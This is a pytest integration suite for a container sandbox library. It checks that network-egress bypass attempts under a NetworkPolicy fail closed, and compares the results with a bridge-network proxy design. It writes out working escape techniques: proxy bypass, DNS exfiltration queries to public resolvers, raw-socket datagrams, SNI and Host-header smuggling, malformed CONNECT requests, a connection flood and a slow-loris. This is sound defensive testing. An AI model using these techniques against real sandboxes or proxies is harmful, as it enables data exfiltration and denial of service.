"""The bypass suite of issue 23: each way out of a sandbox under a NetworkPolicy fails closed, none delivered.

A session under a policy has network ``none``: its only way out is the agent's proxy endpoint on
127.0.0.1, carried over the channel to the host's relay. Each attack below is run as a shell command in a
session built from a small image with curl, dig and ping (:func:`tools_image`), on runc and on gVisor, and
is judged on the **host**: the servers it aims at (:mod:`tests.integration.egress_servers`) record every
byte they get, so "nothing delivered" is read where the bytes would land, not from the client's error.

The servers listen on the host's own address (the source of its default route), which the policy pins
``allowed.test`` to. The same attacks also run in a **naive design**, the shape other harnesses use: a
container on a Docker bridge network with ``HTTP(S)_PROXY`` pointing at an allowlisting proxy on the host
(here this library's own relay, with the same policy) and the allowed name resolving by the container's
DNS. :data:`ATTACKS` says which get through there; those are the ones the design (no route at all) stops.
The others are stopped by the proxy's own checks in both designs and stay here as regression tests (a
proxy that allows by name alone, such as squid with a ``dstdomain`` list, lets most of them through).
"""

from __future__ import annotations

import contextlib
import json
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docker
import docker.errors
import pytest

from adk_sandbox.executor import ExecRequest, ExecResult, Language
from adk_sandbox.executor.backends.docker import DockerBackend, DockerSession
from adk_sandbox.executor.network.log import ConnectionLog
from adk_sandbox.executor.network.policy import NetworkPolicy
from adk_sandbox.executor.network.relay import relay
from tests.conftest import require
from tests.integration.egress_servers import (
    BODY,
    TOOLS_DOCKERFILE,
    TOOLS_IMAGE,
    DnsSink,
    Upstream,
    ensure_image,
    make_certificate,
    server_context,
)
from tests.loopback_server import stop_serving

pytestmark = pytest.mark.docker

LABEL = "adk-sandbox-test.egress-bypass"


def host_address() -> str:
    """The host's address on its default route (no packet is sent): where a container with a route lands."""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("192.0.2.1", 9))
        return str(probe.getsockname()[0])
    except OSError:
        return "127.0.0.1"
    finally:
        probe.close()


def resolver_address() -> str:
    """The host's own DNS resolver (the first nameserver of /etc/resolv.conf)."""
    with contextlib.suppress(OSError):
        for line in Path("/etc/resolv.conf").read_text().splitlines():
            if line.startswith("nameserver"):
                return line.split()[1]
    return "127.0.0.53"


@dataclass
class Servers:
    """Everything an attack may aim at, on the host; each records what it got."""

    host: str
    plain: Upstream  # HTTP on the host's address (allowed.test is pinned there)
    tls: Upstream  # HTTPS on the host's address
    loopback: Upstream  # HTTP on 127.0.0.1, for the name that resolves to loopback
    dns: DnsSink  # DNS over UDP and TCP on the host's address
    policy: NetworkPolicy

    def delivered(self) -> int:
        return self.plain.delivered + self.tls.delivered + self.loopback.delivered + self.dns.delivered

    def fill(self, code: str) -> str:
        """``code`` with ``{host}``, ``{port}``, ``{tls}``, ``{lo}``, ``{dns}``, ``{resolver}`` filled in."""
        values = {
            "host": self.host, "port": self.plain.port, "tls": self.tls.port, "lo": self.loopback.port,
            "dns": self.dns.port, "resolver": resolver_address(),
        }  # fmt: skip
        for key, value in values.items():
            code = code.replace("{" + key + "}", str(value))
        return code


@pytest.fixture(scope="module")
def servers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Servers]:
    host = host_address()
    context = server_context(make_certificate(tmp_path_factory.mktemp("tls")))
    plain, tls, loopback = Upstream(host=host), Upstream(context, host=host), Upstream()
    dns = DnsSink(host)
    policy = NetworkPolicy(
        allow=[f"allowed.test:{plain.port}", f"allowed.test:{tls.port}", f"localhost:{loopback.port}"],
        hosts={"allowed.test": [host]},  # localhost is NOT pinned: the host resolves it, to loopback
    )
    yield Servers(host, plain, tls, loopback, dns, policy)
    for server in (plain, tls, loopback, dns):
        server.close()


@pytest.fixture(scope="module")
def tools_image(docker_backend: DockerBackend) -> str:
    """A small image with curl, dig and ping, built once (``--network host``: the build needs apt)."""
    return ensure_image(docker_backend._client, TOOLS_IMAGE, TOOLS_DOCKERFILE)


@pytest.fixture(scope="module", params=["runc", "runsc"])
def session(
    request: pytest.FixtureRequest, docker_backend: DockerBackend, tools_image: str, servers: Servers
) -> Iterator[DockerSession]:
    """One session per runtime, shared by the attacks (none leaves anything behind in it)."""
    runtime = None if request.param == "runc" else str(request.param)
    if runtime is not None:
        require(runtime in docker_backend._client.info().get("Runtimes", {}), f"{runtime} is not installed")
    backend = DockerBackend(image=tools_image, network=servers.policy, runtime=runtime)
    try:
        with backend.session() as opened:
            yield opened
    finally:
        backend.close()


def run(session: DockerSession, code: str, timeout: float = 60) -> ExecResult:
    return session.execute(ExecRequest(language=Language.COMMAND, code=code, timeout=timeout))


# -- the attacks --------------------------------------------------------------------------------------------
PROXY = "import os, urllib.parse\nP = urllib.parse.urlsplit(os.environ['HTTP_PROXY'])\n"

TUNNEL = (
    PROXY
    + """import socket, ssl
def tunnel(target):
    s = socket.create_connection((P.hostname, P.port), 5)
    s.sendall(f'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n'.encode())
    head = b''
    while b'\\r\\n\\r\\n' not in head and (byte := s.recv(1)):
        head += byte
    print('proxy:', head.split(b'\\r\\n')[0])
    return s
def handshake(server_hostname):
    s = tunnel('allowed.test:{tls}')
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        t = context.wrap_socket(s, server_hostname=server_hostname)
        t.settimeout(5)
        t.sendall(b'GET /tls HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n')
        print('ESCAPED', t.recv(200))
    except (OSError, ssl.SSLError) as error:
        print('refused', server_hostname, error)
"""
)

RAW_TO_PROXY = (
    PROXY
    + """import socket
def ask(payload):
    try:
        s = socket.create_connection((P.hostname, P.port), 5)
        s.settimeout(15)
        s.sendall(payload)
        print('proxy:', s.recv(1000).decode(errors='replace'))
    except OSError as error:
        print('proxy: closed', error)
"""
)


def py(code: str) -> str:
    return f"python3 - <<'PY'\n{code}\nPY\n"


@dataclass(frozen=True)
class Attack:
    code: str
    """Shell code; prints ESCAPED when it got an answer it should not have (the servers tell the rest)."""
    naive: bool
    """Whether it gets through in the naive design (a bridge network plus an allowlisting proxy)."""
    answers: tuple[str, ...] = ()
    """What the sandbox's proxy must have answered (each in the output): the attempt reached the proxy."""


ATTACKS: dict[str, Attack] = {
    # Ignoring the proxy: the naive design resolves the allowed name and has a route to it.
    "noproxy-name": Attack("curl -sS -m 5 --noproxy '*' http://allowed.test:{port}/noproxy-name", naive=True),
    "noproxy-pinned-ip": Attack("curl -sS -m 5 --noproxy '*' http://{host}:{port}/noproxy-ip", naive=True),
    "direct-ip-socket": Attack(
        py(
            "import socket\ntry:\n    s = socket.create_connection(('{host}', {port}), 5)\n"
            "    s.sendall(b'GET /direct HTTP/1.0\\r\\n\\r\\n'); print('ESCAPED', s.recv(100))\n"
            "except OSError as error:\n    print('refused', error)"
        ),
        naive=True,
    ),
    # Through the proxy to an address: refused by name in both designs (not a host name).
    "connect-ip-literal": Attack(
        'curl -sS -m 5 -p -x "$HTTP_PROXY" http://{host}:{port}/connect-ip; echo\n'
        'curl -sS -m 5 -x "$HTTP_PROXY" http://{host}:{port}/plain-ip; echo\n'
        + py(
            RAW_TO_PROXY
            + "for target in ['[::ffff:{host}]:{port}', '{host}:{tls}', '2130706433:{lo}', '0x7f.1:{lo}']:\n"
            "    ask(f'CONNECT {target} HTTP/1.1\\r\\n\\r\\n'.encode())"
        ),
        naive=False,
        answers=("not a host name",),
    ),
    # DNS to any server, over UDP and TCP: the sink on the host's address records any query.
    "dns-udp": Attack(
        "dig +time=1 +tries=1 @{host} -p {dns} exfil-udp.allowed.test\n"
        "dig +time=1 +tries=1 @8.8.8.8 exfil-udp.allowed.test\n"
        "dig +time=1 +tries=1 @{resolver} exfil-udp.allowed.test",
        naive=True,
    ),
    "dns-tcp": Attack(
        "dig +tcp +time=1 +tries=1 @{host} -p {dns} exfil-tcp.allowed.test\n"
        "dig +tcp +time=1 +tries=1 @1.1.1.1 exfil-tcp.allowed.test\n"
        "dig +tcp +time=1 +tries=1 @{resolver} exfil-tcp.allowed.test",
        naive=True,
    ),
    # ICMP: a reply is the proof it was delivered.
    "icmp": Attack("ping -c 1 -W 2 {host} && echo ESCAPED", naive=True),
    # A raw socket (root's CAP_NET_RAW in the naive design) sending a hand-made UDP datagram to the sink.
    "raw-socket": Attack(
        py(
            "import socket, struct\ntry:\n"
            "    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)\n"
            "    payload = b'raw-socket-exfil'\n"
            "    s.sendto(struct.pack('!HHHH', 40000, {dns}, 8 + len(payload), 0) + payload, ('{host}', 0))\n"
            "    print('sent')\n"
            "except OSError as error:\n    print('refused', error)"
        ),
        naive=True,
    ),
    # IPv6: no IPv6 route in either design (Docker's bridge has none by default); an IPv4-mapped address
    # is IPv4 to the kernel, so the naive design's route carries it.
    "ipv6": Attack(
        "curl -6 -sS -m 5 --noproxy '*' 'http://[::ffff:{host}]:{port}/v6-mapped'; echo\n"
        + py(
            "import socket\n"
            "for target in [('::ffff:{host}', {port}), ('2001:4860:4860::8888', 53), ('::1', {lo})]:\n"
            "    try:\n"
            "        s = socket.create_connection(target, 5)\n"
            "        s.sendall(b'GET /v6 HTTP/1.0\\r\\n\\r\\n'); print('ESCAPED', target, s.recv(100))\n"
            "    except OSError as error:\n        print('refused', target, error)"
        ),
        naive=True,
    ),
    # The proxy's own checks, the same in both designs (regression tests).
    "sni-mismatch": Attack(
        "curl -sS -m 5 -k --connect-to denied.test:443:allowed.test:{tls} https://denied.test/sni; echo\n"
        + py(TUNNEL + "handshake('denied.test')"),
        naive=False,
        answers=("refused denied.test",),
    ),
    "no-sni": Attack(py(TUNNEL + "handshake(None)"), naive=False, answers=("refused None",)),
    "rebinding": Attack(
        "curl -sS -m 5 -x \"$HTTP_PROXY\" --noproxy '' http://localhost:{lo}/rebind; echo\n"
        "curl -sS -m 5 -p -x \"$HTTP_PROXY\" --noproxy '' http://localhost:{lo}/rebind-tunnel; echo",
        naive=False,
        answers=("loopback",),
    ),
    "host-header": Attack(
        "curl -sS -m 5 -H 'Host: denied.test' http://allowed.test:{port}/host; echo\n"
        + py(
            RAW_TO_PROXY
            + "ask(b'GET http://allowed.test:{port}/ HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n')\n"
            "ask(b'GET http://allowed.test:{port}/ HTTP/1.1\\r\\nHost: allowed.test:{port}\\r\\n"
            "Host: denied.test\\r\\n\\r\\n')"
        ),
        naive=False,
        answers=("must agree", "several Host headers"),
    ),
    "garbage-connect": Attack(
        py(
            RAW_TO_PROXY + "END = b'\\r\\n\\r\\n'\n"
            "for payload in [b'CONNECT \\x00\\xff' + END, b'\\x16\\x03\\x01\\x00\\x05hello' + END,\n"
            "                b'CONNECT ' + b'a' * 20000 + b'.test:443 HTTP/1.1' + END,\n"
            "                b'CONNECT allowed.test:{tls} HTTP/1.1\\r\\nX-Pad: ' + b'a' * 9000 + END,\n"
            "                b'CONNECT allowed.test:{tls}:443 HTTP/1.1' + END,\n"
            "                b'CONNECT allowed.test:99999 HTTP/1.1' + END,\n"
            "                b'CONNECT allowed.test:{tls} HTTP/1.1' + b'\\r\\nX: y' * 200 + END]:\n"
            "    ask(payload)"
        ),
        naive=False,
        answers=("400",),
    ),
}


def through(servers: Servers, before: int, output: str) -> bool:
    """Whether an attack got anything delivered (the servers' count) or an answer it should not have."""
    time.sleep(0.3)  # the servers' threads record what they got
    return servers.delivered() != before or "ESCAPED" in output or BODY.decode().strip() in output


@pytest.mark.parametrize("name", list(ATTACKS))
def test_an_attack_fails_closed(session: DockerSession, servers: Servers, name: str) -> None:
    attack = ATTACKS[name]
    before, logged = servers.delivered(), len(session.network_log().entries)
    result = run(session, servers.fill(attack.code))
    output = result.stdout + result.stderr
    assert not through(servers, before, output), output
    for answer in attack.answers:
        assert answer in output, output
    # Every attempt the proxy saw was refused (the log says by which rule).
    entries = session.network_log().entries[logged:]
    assert all(entry.decision == "refused" for entry in entries), entries
    assert all(entry.bytes_up == 0 for entry in entries), entries


# -- a thousand connections and a slow-loris: bounded, and the session keeps working -------------------------
def relay_threads(session: DockerSession) -> int:
    """The connections the host serves now: the direct path's live count, or the channel's relay threads."""
    direct = session._egress._direct
    if direct is not None and session.egress_mode == "unix":
        return direct.live
    return sum(1 for thread in threading.enumerate() if thread.name == "adk-sandbox-connection")


def assert_still_working(session: DockerSession, servers: Servers, path: str) -> None:
    assert run(session, "echo alive").stdout == "alive\n"
    before = len(servers.plain.received)
    fetched = run(session, f"curl -sS -m 20 http://allowed.test:{servers.plain.port}/{path}")
    assert fetched.stdout == BODY.decode(), fetched
    assert servers.plain.received[before:] and servers.plain.received[before].startswith(
        f"GET /{path} ".encode()
    )


FLOOD = """
import json, os, resource, select, socket, time, urllib.parse
P = urllib.parse.urlsplit(os.environ['HTTP_PROXY'])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
# A thousand connections, all open at once. They are made in batches of 100 (under the listener's backlog
# of 128), each batch waited for: a thousand SYNs at once overflow the backlog, and the ones dropped come
# back only by the kernel's SYN retries (1, 3, 7, 15 s), so how many got in would measure the machine's
# load, not the agent.
socks = []
for _ in range(10):
    batch = []
    waiting = select.poll()
    for _ in range(100):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex((P.hostname, P.port))
        batch.append(s)
        waiting.register(s, select.POLLOUT)
    pending = {s.fileno() for s in batch}
    deadline = time.monotonic() + 15
    while pending and time.monotonic() < deadline:
        for fd, _event in waiting.poll(200):
            pending.discard(fd)
            waiting.unregister(fd)
    socks.extend(batch)
connected = sum(1 for s in socks if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0)
sent = 0
for s in socks:
    try:
        s.send(b'CONNECT allowed.test:{tls} HTTP/1.1\\r\\n')  # a head never finished
        sent += 1
    except OSError:
        pass
# How many the agent closed: polled until all but the 256 it holds are closed or 30 s have passed.
ended = set()
deadline = time.monotonic() + 30
while time.monotonic() < deadline and len(ended) < 1000 - 256:
    for number, s in enumerate(socks):
        if number in ended:
            continue
        try:
            if s.recv(1) == b'':
                ended.add(number)
        except BlockingIOError:
            pass
        except OSError:
            ended.add(number)
    time.sleep(0.2)
for s in socks:
    s.close()
print(json.dumps({'connected': connected, 'sent': sent, 'closed': len(ended)}))
"""


def test_a_thousand_parallel_connections_are_bounded(session: DockerSession, servers: Servers) -> None:
    before = servers.delivered()
    most = 0
    done = threading.Event()

    def watch() -> None:
        nonlocal most
        while not done.is_set():
            most = max(most, relay_threads(session))
            time.sleep(0.05)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    try:
        result = session.execute(ExecRequest(language=Language.PYTHON, code=servers.fill(FLOOD), timeout=240))
    finally:
        done.set()
        watcher.join()
    assert result.exit_code == 0, result
    # The agent holds 256 connections at most (frames.MAX_CONNECTIONS) and closes any past that at once;
    # the host runs one relay per connection it holds.
    assert 0 < most <= 256, most
    # Connections past the cap were closed by the agent at once (the rest were still open, waiting).
    counts = json.loads(result.stdout)
    assert counts["connected"] == 1000, counts
    assert counts["closed"] >= 1000 - 256, counts
    deadline = time.monotonic() + 15
    while relay_threads(session) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert relay_threads(session) == 0
    assert servers.delivered() == before
    assert_still_working(session, servers, "after-flood")


LORIS = """
import json, os, socket, threading, time, urllib.parse, urllib.request
P = urllib.parse.urlsplit(os.environ['HTTP_PROXY'])
LINE = b'CONNECT allowed.test:{tls} HTTP/1.1\\r\\nX-Drip: ' + b'a' * 100
ended = []
def drip():
    start = time.monotonic()
    s = socket.create_connection((P.hostname, P.port), 10)
    s.settimeout(1)
    answer = b'?'
    for byte in LINE:  # a byte a second: never a whole head
        try:
            s.send(bytes([byte]))
            answer = s.recv(200)
            break
        except TimeoutError:
            continue
        except OSError as error:
            answer = repr(error).encode()
            break
    ended.append((round(time.monotonic() - start, 1), answer.split(b'\\r\\n')[0].decode(errors='replace')))
threads = [threading.Thread(target=drip) for _ in range(100)]
for thread in threads:
    thread.start()
time.sleep(2)
with urllib.request.urlopen('http://allowed.test:{port}/during-loris', timeout=20) as answer:
    during = answer.read().decode()
for thread in threads:
    thread.join()
print(json.dumps({'during': during, 'ended': ended}))
"""


def test_a_slow_loris_is_cut_by_the_head_deadline(session: DockerSession, servers: Servers) -> None:
    tls_before, plain_before = servers.tls.delivered, len(servers.plain.received)
    result = session.execute(ExecRequest(language=Language.PYTHON, code=servers.fill(LORIS), timeout=60))
    assert result.exit_code == 0, result
    report = json.loads(result.stdout)
    # An allowed fetch goes through while the proxy is being dripped at.
    assert report["during"] == BODY.decode()
    # Each dripping connection got a 408 at the relay's head deadline (10 s), not later.
    answers = {answer for _, answer in report["ended"]}
    assert answers == {"HTTP/1.1 408 Request Timeout"}, report["ended"]
    assert max(seconds for seconds, _ in report["ended"]) < 14
    # Nothing of the dripped heads reached a server: only the one fetch did.
    assert servers.tls.delivered == tls_before
    assert [head.split(b" ")[1] for head in servers.plain.received[plain_before:]] == [b"/during-loris"]
    assert_still_working(session, servers, "after-loris")


# -- the naive design: a bridge network and an allowlisting proxy -------------------------------------------
@pytest.fixture(scope="module")
def naive(docker_backend: DockerBackend, tools_image: str, servers: Servers) -> Iterator[Any]:
    """A container on a bridge network of its own, its proxy variables on this library's relay on the host."""
    client = docker_backend._client
    name = f"adk-sandbox-test-bypass-{uuid.uuid4().hex[:8]}"
    try:
        network = client.networks.create(name, driver="bridge", labels={LABEL: "1"})
    except docker.errors.APIError as error:
        require(False, f"this engine cannot make a bridge network: {error}")
    proxy = socket.create_server((servers.host, 0))
    log = ConnectionLog()

    def serve() -> None:
        while True:
            try:
                conn, _ = proxy.accept()
            except OSError:
                return
            threading.Thread(target=relay, args=(conn, servers.policy, log), daemon=True).start()

    serving = threading.Thread(target=serve, daemon=True)
    serving.start()
    url = f"http://{servers.host}:{proxy.getsockname()[1]}"
    env = {"HTTP_PROXY": url, "HTTPS_PROXY": url, "http_proxy": url, "https_proxy": url,
           "NO_PROXY": "localhost,127.0.0.1", "no_proxy": "localhost,127.0.0.1"}  # fmt: skip
    container = None
    try:
        container = client.containers.run(
            tools_image, ["sleep", "600"], detach=True, name=name, network=name, environment=env,
            extra_hosts={"allowed.test": servers.host}, labels={LABEL: "1"},
        )  # fmt: skip
        yield container
    finally:
        if container is not None:
            with contextlib.suppress(docker.errors.DockerException):
                container.remove(force=True)
        with contextlib.suppress(docker.errors.DockerException):
            network.remove()
        stop_serving(proxy, serving)


def test_the_naive_design_lets_the_route_attacks_through(naive: Any, servers: Servers) -> None:
    got_through = set()
    for name, attack in ATTACKS.items():
        before = servers.delivered()
        _, output = naive.exec_run(["sh", "-c", servers.fill(attack.code)], user="0:0")
        if through(servers, before, bytes(output).decode(errors="replace")):
            got_through.add(name)
    # The attacks that need a route get through there; the policy's sandbox has none.
    assert got_through == {name for name, attack in ATTACKS.items() if attack.naive}
